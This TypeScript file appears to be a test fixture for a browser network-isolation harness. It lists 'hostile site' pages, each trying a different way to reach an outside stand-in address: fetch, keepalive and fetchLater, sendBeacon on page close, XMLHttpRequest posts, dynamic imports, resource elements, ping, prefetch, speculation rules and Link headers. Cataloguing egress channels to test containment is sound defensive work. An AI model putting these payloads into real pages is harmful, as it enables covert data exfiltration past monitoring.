import type { PageAttack, Places } from './hostile-site.ts';

/** Runs in the page at once. */
export function script(text: string): string {
  return `<script>${text}</script>`;
}

const one = (name: string, how: string, page: (places: Places) => string): PageAttack => ({
  name,
  how,
  files: places => ({ '/': page(places) }),
});

/** What scripts of a page ask for. */
export const requestAttacks: readonly PageAttack[] = [
  one('fetch', 'a script fetches from another port', ({ out }) => script(`fetch('${out}/x', { mode: 'no-cors' })`)),
  one('fetch keepalive', 'a fetch that outlives its page', ({ out }) =>
    script(`addEventListener('pagehide', () => fetch('${out}/x', { mode: 'no-cors', keepalive: true }));
      fetch('${out}/y', { mode: 'no-cors', keepalive: true, method: 'POST', body: 'x' })`),
  ),
  one('fetchLater', 'a fetch that the browser sends when the page is gone', ({ out }) =>
    script(`fetchLater('${out}/x', { mode: 'no-cors', activateAfter: 0 })`),
  ),
  one('XMLHttpRequest', 'a script posts to another port', ({ out }) =>
    script(`const asked = new XMLHttpRequest(); asked.open('POST', '${out}/x'); asked.send('x')`),
  ),
  one('beacon', 'navigator.sendBeacon', ({ out }) => script(`navigator.sendBeacon('${out}/x', 'x')`)),
  one('beacon at the end', 'navigator.sendBeacon when the page is closed', ({ out }) =>
    script(`for (const end of ['pagehide', 'visibilitychange', 'unload', 'beforeunload'])
      addEventListener(end, () => navigator.sendBeacon('${out}/x', end))`),
  ),
  one('EventSource', 'a stream of events', ({ out }) => script(`new EventSource('${out}/x')`)),
  one('WebAssembly', 'a module is compiled while it streams in', ({ out }) =>
    script(`WebAssembly.compileStreaming(fetch('${out}/x.wasm', { mode: 'no-cors' })).catch(() => 0)`),
  ),
  one('dynamic import', 'a script imports a module', ({ out }) => script(`import('${out}/x.js').catch(() => 0)`)),
  one(
    'import map',
    'a map leads a bare name elsewhere',
    ({ out }) =>
      `<script type="importmap">{ "imports": { "lib": "${out}/lib.js" } }</script>
     <script type="module">import 'lib';</script>`,
  ),
  one('untouched fetch', 'fetch of a frame that no script of ours has seen', ({ out }) =>
    script(`const frame = document.createElement('iframe'); document.documentElement.append(frame);
      frame.contentWindow.fetch('${out}/x', { mode: 'no-cors' })`),
  ),
];

/** What elements and style sheets ask for. */
export const elementAttacks: readonly PageAttack[] = [
  one(
    'image',
    'an <img>, a srcset, an <input type=image>',
    ({ out }) => `<img src="${out}/a.png"><img srcset="${out}/b.png 1x"><input type="image" src="${out}/c.png">`,
  ),
  one('script', 'a <script src>', ({ out }) => `<script src="${out}/x.js"></script>`),
  one(
    'style sheet',
    'a <link rel=stylesheet> and an @import',
    ({ out }) => `<link rel="stylesheet" href="${out}/a.css"><style>@import url(${out}/b.css);</style>`,
  ),
  one(
    'style image and font',
    'a background, a cursor, a font',
    ({ out }) =>
      `<style>@font-face { font-family: F; src: url(${out}/f.woff2) }
       h1 { font-family: F; background: url(${out}/b.png); cursor: url(${out}/c.cur), auto }</style>`,
  ),
  one(
    'object and embed',
    'an <object> and an <embed>',
    ({ out }) => `<object data="${out}/x.svg"></object><embed src="${out}/x.pdf" type="application/pdf">`,
  ),
  one(
    'media',
    '<video>, <audio>, poster and <track>',
    ({ out }) =>
      `<video src="${out}/v.mp4" poster="${out}/p.png" autoplay muted crossorigin="anonymous">
       <track src="${out}/t.vtt" default kind="captions"></video><audio src="${out}/a.mp3" autoplay></audio>`,
  ),
  one(
    'SVG',
    '<use>, <image> and <feImage>',
    ({ out }) =>
      `<svg><use href="${out}/x.svg#a"/><image href="${out}/x.png" width="9" height="9"/>
       <filter id="f"><feImage href="${out}/f.png"/></filter><rect filter="url(#f)" width="9" height="9"/></svg>`,
  ),
  {
    ...one(
      'manifest and icon',
      '<link rel=manifest> and <link rel=icon>',
      ({ out }) =>
        `<link rel="manifest" href="${out}/m.json" crossorigin><link rel="icon" href="${out}/i.ico">
     <link rel="apple-touch-icon" href="${out}/a.png">`,
    ),
    needs: 'a whole Chromium; the headless shell does nothing about it',
  },
  one(
    'ping',
    'the ping attribute of a link',
    ({ out }) => `<a id="link" href="#here" ping="${out}/x">go</a>${script(`document.getElementById('link').click()`)}`,
  ),
  {
    ...one(
      'attribution',
      'attributionsrc of an image and of a link',
      ({ out }) =>
        `<img attributionsrc="${out}/a" src="/x.png">
     <a id="link" href="#here" attributionsrc="${out}/b">go</a>${script(`document.getElementById('link').click()`)}`,
    ),
    needs: 'Attribution Reporting, which is for HTTPS',
  },
  one(
    'XSLT',
    'an <?xml-stylesheet> of a framed document',
    ({ out }) =>
      `<iframe src="data:text/xml,${encodeURIComponent(`<?xml-stylesheet type="text/xsl" href="${out}/x.xsl"?><a/>`)}"></iframe>
     <iframe src="data:image/svg+xml,${encodeURIComponent(
       `<svg xmlns="http://www.w3.org/2000/svg"><image href="${out}/x.png" width="9" height="9"/></svg>`,
     )}"></iframe>`,
  ),
];

/** What pages let the browser do ahead of time. */
export const hintAttacks: readonly PageAttack[] = [
  one('prefetch', '<link rel=prefetch>', ({ out }) => `<link rel="prefetch" href="${out}/x.html">`),
  one(
    'preload',
    '<link rel=preload>',
    ({ out }) =>
      `<link rel="preload" href="${out}/a.js" as="script"><link rel="preload" href="${out}/b" as="fetch" crossorigin>`,
  ),
  one('modulepreload', '<link rel=modulepreload>', ({ out }) => `<link rel="modulepreload" href="${out}/x.js">`),
  {
    ...one(
      'preconnect',
      '<link rel=preconnect>: a connection without a request',
      ({ out }) => `<link rel="preconnect" href="${out}"><link rel="preconnect" href="${out}" crossorigin>`,
    ),
    needs: 'a whole Chromium; the headless shell does nothing about it',
  },
  {
    ...one(
      'dns-prefetch',
      'names of this machine are looked up and connected to',
      ({ port, machine }) =>
        `<link rel="dns-prefetch" href="//${machine}:${port}"><link rel="preconnect" href="http://${machine}:${port}">`,
    ),
    needs: 'a whole Chromium; the headless shell does nothing about it',
  },
  {
    ...one('prerender', '<link rel=prerender>', ({ out }) => `<link rel="prerender" href="${out}/x.html">`),
    needs: 'a whole Chromium; the headless shell does nothing about it',
  },
  one(
    'speculation prefetch',
    'speculation rules that prefetch',
    ({ out }) =>
      `<script type="speculationrules">{ "prefetch": [{ "urls": ["${out}/x.html"], "eagerness": "immediate" }] }</script>`,
  ),
  {
    name: 'speculation prerender',
    how: 'speculation rules that prerender a page of the site, which then asks elsewhere',
    needs: 'a whole Chromium; the headless shell does nothing about it',
    files: ({ out }) => ({
      '/': `<script type="speculationrules">{ "prerender": [{ "urls": ["/next"], "eagerness": "immediate" }] }</script>`,
      '/next': `${script(`fetch('${out}/x', { mode: 'no-cors' })`)}<img src="${out}/x.png">`,
    }),
  },
  {
    name: 'Link header',
    how: 'preconnect and preload in a header of the answer',
    files: ({ out }) => ({
      '/': { headers: { link: `<${out}>; rel=preconnect, <${out}/x.js>; rel=preload; as=script` } },
    }),
  },
  {
    name: 'Speculation-Rules header',
    how: 'rules in a file that a header names',
    files: ({ out }) => ({
      '/': { headers: { 'speculation-rules': '"/rules.json"' } },
      '/rules.json': {
        text: `{ "prefetch": [{ "urls": ["${out}/x.html"], "eagerness": "immediate" }] }`,
        headers: { 'content-type': 'application/speculationrules+json' },
      },
    }),
  },
];
